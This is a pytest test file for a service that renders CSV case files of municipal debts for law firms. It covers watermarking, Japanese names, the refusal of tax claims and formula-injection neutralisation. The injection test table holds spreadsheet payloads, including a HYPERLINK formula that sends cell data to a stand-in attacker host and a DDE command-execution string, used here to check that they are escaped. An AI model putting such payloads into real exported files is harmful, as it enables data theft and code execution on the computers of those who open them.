"""The case file a lawyer firm downloads: watermark, Japanese names, formula-injection guard and the tax refusal."""

from __future__ import annotations

import csv
import dataclasses
import hashlib
import io
import re
from datetime import UTC, date, datetime, timedelta, timezone

import pytest

from services.lawyer_gateway.case_file import (
    CaseFileActivity,
    CaseFileClaim,
    CaseFileData,
    render_case_file,
    watermark_id,
)

JST = timezone(timedelta(hours=9))
DOWNLOADED_AT = datetime(2025, 4, 7, 14, 30, 5, tzinfo=JST)

HOUSING = CaseFileClaim("H-2023-0042", "housing", "municipal_housing_rent", "private", 2023, date(2023, 5, 31), 54_000)
WATER = CaseFileClaim("W-2024-1187", "water", "water_supply_charge", "private", 2024, date(2024, 8, 20), 8_250)
LUNCH = CaseFileClaim("C-2024-0007", "childcare", "school_lunch_fee", "private", 2024, date(2024, 6, 30), 4_800)

CASE = CaseFileData(
    case_ref="20250001",
    name_kanji="髙橋 山﨑",
    name_kana="ﾀｶﾊｼ ﾔﾏｻﾞｷ",
    address="東京都港区芝公園四丁目２番８号　ﾊｲﾂ芝公園１０１",
    postal_code="105-0011",
    phone="03-1234-5678",
    total_balance=67_050,
    claims=(HOUSING, WATER, LUNCH),
    activities=(
        CaseFileActivity(date(2025, 3, 3), "督促状送付", "山田法律事務所 佐藤", "催告書を送付"),
        CaseFileActivity(date(2025, 3, 20), "電話", "佐藤", "=1+2 と言われた\n折り返し予定"),
    ),
)


def render(case: CaseFileData = CASE, **overrides: object) -> tuple[bytes, str]:
    arguments: dict[str, object] = {"downloaded_by": "sato@yamada-law.example", "firm_name": "山田法律事務所",
                                    "downloaded_at": DOWNLOADED_AT}
    arguments.update(overrides)
    return render_case_file(case, **arguments)  # type: ignore[arg-type]


def rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def section(parsed: list[list[str]], title: str) -> list[list[str]]:
    """The rows after a section title up to the next blank row."""
    start = parsed.index([title]) + 1
    end = next((i for i in range(start, len(parsed)) if parsed[i] == []), len(parsed))
    return parsed[start:end]


def test_bom_and_crlf() -> None:
    content, _ = render()
    assert content.startswith("\ufeff".encode())
    text = content.decode("utf-8-sig")
    assert text.endswith("\r\n")
    assert text.replace("\r\n", "").count("\n") == 1, "every line ends with CRLF; one bare LF is inside a quoted note"


def test_watermark_rows() -> None:
    content, mark = render()
    parsed = rows(content)
    first, second, blank = parsed[0], parsed[1], parsed[2]
    assert first == ["# 取扱注意: 委託事件記録", "山田法律事務所", "sato@yamada-law.example", "2025-04-07T14:30:05+09:00"]
    assert len(second) == 1 and second[0].startswith("# 本ファイルは委託契約の目的以外に使用・複製しないこと")
    assert re.fullmatch(r"[0-9a-f]{64}", mark)
    assert second[0].endswith(f"(watermark id {mark})")
    assert blank == []


def test_watermark_time_is_shown_in_japan_time() -> None:
    content, mark = render(downloaded_at=datetime(2025, 4, 7, 5, 30, 5, tzinfo=UTC))
    assert rows(content)[0][3] == "2025-04-07T14:30:05+09:00"
    assert mark == render()[1], "the same instant gives the same id whatever offset it came in"


def test_naive_download_time_is_refused() -> None:
    with pytest.raises(ValueError, match="timezone-aware"):
        render(downloaded_at=datetime(2025, 4, 7, 14, 30, 5))


def test_watermark_id_is_deterministic_and_traces_the_download() -> None:
    _, mark = render()
    assert render()[1] == mark
    assert watermark_id("20250001", "sato@yamada-law.example", DOWNLOADED_AT) == mark
    assert mark == hashlib.sha256(
        b'["20250001","sato@yamada-law.example","2025-04-07T14:30:05+09:00"]').hexdigest()
    others = {
        render(downloaded_by="suzuki@yamada-law.example")[1],
        render(downloaded_at=DOWNLOADED_AT + timedelta(seconds=1))[1],
        render(dataclasses.replace(CASE, case_ref="20250002"))[1],
    }
    assert mark not in others and len(others) == 3
    assert render(firm_name="別の事務所")[1] == mark, "the firm follows from the person"


def test_case_section_passes_japanese_text_through_unchanged() -> None:
    case_rows = section(rows(render()[0]), "事件")
    assert case_rows == [
        ["事件番号", "20250001"],
        ["氏名", "髙橋 山﨑"],
        ["氏名（カナ）", "ﾀｶﾊｼ ﾔﾏｻﾞｷ"],
        ["住所", "東京都港区芝公園四丁目２番８号　ﾊｲﾂ芝公園１０１"],
        ["郵便番号", "105-0011"],
        ["電話番号", "03-1234-5678"],
        ["滞納額合計", "67050"],
    ]


def test_missing_contact_details_are_empty_cells() -> None:
    case = dataclasses.replace(CASE, name_kana=None, address=None, postal_code=None, phone=None)
    case_rows = dict(section(rows(render(case)[0]), "事件"))  # type: ignore[arg-type]
    assert case_rows["氏名（カナ）"] == case_rows["住所"] == case_rows["郵便番号"] == case_rows["電話番号"] == ""


def test_claims_section_in_japanese() -> None:
    claim_rows = section(rows(render()[0]), "債権")
    assert claim_rows == [
        ["債権番号", "所管課", "債権の種類", "年度", "納期限", "残高"],
        ["H-2023-0042", "市営住宅課", "市営住宅使用料", "2023", "2023-05-31", "54000"],
        ["W-2024-1187", "上下水道局", "上水道料金", "2024", "2024-08-20", "8250"],
        ["C-2024-0007", "保育課", "学校給食費", "2024", "2024-06-30", "4800"],
    ]


def test_insurance_claim_of_a_non_forced_category() -> None:
    claim = CaseFileClaim("I-1", "insurance", "long_term_care_premium", "non_forced_public", 2022, date(2022, 9, 30), 1)
    claim_rows = section(rows(render(dataclasses.replace(CASE, claims=(claim,)))[0]), "債権")
    assert claim_rows[1][1:3] == ["国保年金課", "介護保険料"]


def test_negative_amounts_stay_numbers() -> None:
    claim = dataclasses.replace(WATER, balance=-300)  # an overpayment shown as credit
    parsed = rows(render(dataclasses.replace(CASE, claims=(claim,), total_balance=-300))[0])
    assert section(parsed, "債権")[1][5] == "-300"
    assert dict(section(parsed, "事件"))["滞納額合計"] == "-300"  # type: ignore[arg-type]


def test_activity_section() -> None:
    activity_rows = section(rows(render()[0]), "経過")
    assert activity_rows == [
        ["日付", "種別", "記録者", "内容"],
        ["2025-03-03", "督促状送付", "山田法律事務所 佐藤", "催告書を送付"],
        ["2025-03-20", "電話", "佐藤", "'=1+2 と言われた\n折り返し予定"],
    ]


def test_no_activity_section_without_activities() -> None:
    parsed = rows(render(dataclasses.replace(CASE, activities=()))[0])
    assert ["経過"] not in parsed
    assert parsed[-1] == ["C-2024-0007", "保育課", "学校給食費", "2024", "2024-06-30", "4800"]


INJECTIONS = {
    "equals": ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    "plus": ("+81 90 1234 5678", "'+81 90 1234 5678"),
    "minus": ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    "at": ("@SUM(1,2)", "'@SUM(1,2)"),
    "tab": ("\t=1+1", "'\t=1+1"),
    "carriage return": ("\r=1+1", "'\r=1+1"),
    "harmless": ("髙橋 一郎", "髙橋 一郎"),
    "equals later": ("a=b", "a=b"),
}


@pytest.mark.parametrize(("value", "expected"), INJECTIONS.values(), ids=INJECTIONS.keys())
def test_formula_injection_is_neutralised(value: str, expected: str) -> None:
    case = dataclasses.replace(CASE, name_kanji=value, address=value, phone=value,
                               activities=(CaseFileActivity(date(2025, 3, 3), value, value, value),))
    parsed = rows(render(case, firm_name=value, downloaded_by=value)[0])
    case_rows = dict(section(parsed, "事件"))  # type: ignore[arg-type]
    assert case_rows["氏名"] == case_rows["住所"] == case_rows["電話番号"] == expected
    assert section(parsed, "経過")[1][1:] == [expected, expected, expected]
    assert parsed[0][1:3] == [expected, expected]


REFUSED = {
    "tax department": CaseFileClaim("T-1", "tax", "fixed_asset_tax", "forced_public", 2024, date(2024, 4, 30), 10),
    "tax department, category mislabelled": CaseFileClaim("T-2", "tax", "light_vehicle_tax", "private", 2024,
                                                          date(2024, 5, 31), 10),
    "tax receivable, department mislabelled": CaseFileClaim("T-3", "water", "individual_inhabitant_tax", "private",
                                                            2024, date(2024, 6, 30), 10),
    "forced public": CaseFileClaim("S-1", "water", "sewerage_charge", "forced_public", 2024, date(2024, 8, 20), 10),
    "forced nursery fee": CaseFileClaim("N-1", "childcare", "nursery_fee", "forced_public", 2024, date(2024, 5, 1), 1),
}


@pytest.mark.parametrize("claim", REFUSED.values(), ids=REFUSED.keys())
def test_tax_and_forced_claims_are_refused(claim: CaseFileClaim) -> None:
    case = dataclasses.replace(CASE, claims=(HOUSING, claim, WATER))
    with pytest.raises(ValueError) as raised:
        render(case)
    message = str(raised.value)
    assert message == "a case file may not hold tax or forced-collection claims"
    for personal in ("髙橋", "山﨑", "ﾀｶﾊｼ", "東京都", "105-0011", "03-1234", "20250001", claim.claim_id, "sato@"):
        assert personal not in message


UNKNOWN = {
    "department": dataclasses.replace(WATER, department="髙橋さんの部署"),
    "receivable type": dataclasses.replace(WATER, receivable_type="髙橋"),
    "legal category": dataclasses.replace(WATER, legal_category="髙橋"),
}


@pytest.mark.parametrize("claim", UNKNOWN.values(), ids=UNKNOWN.keys())
def test_unknown_codes_are_refused_without_echoing_them(claim: CaseFileClaim) -> None:
    with pytest.raises(ValueError) as raised:
        render(dataclasses.replace(CASE, claims=(claim,)))
    assert "髙橋" not in str(raised.value) and "W-2024-1187" not in str(raised.value)
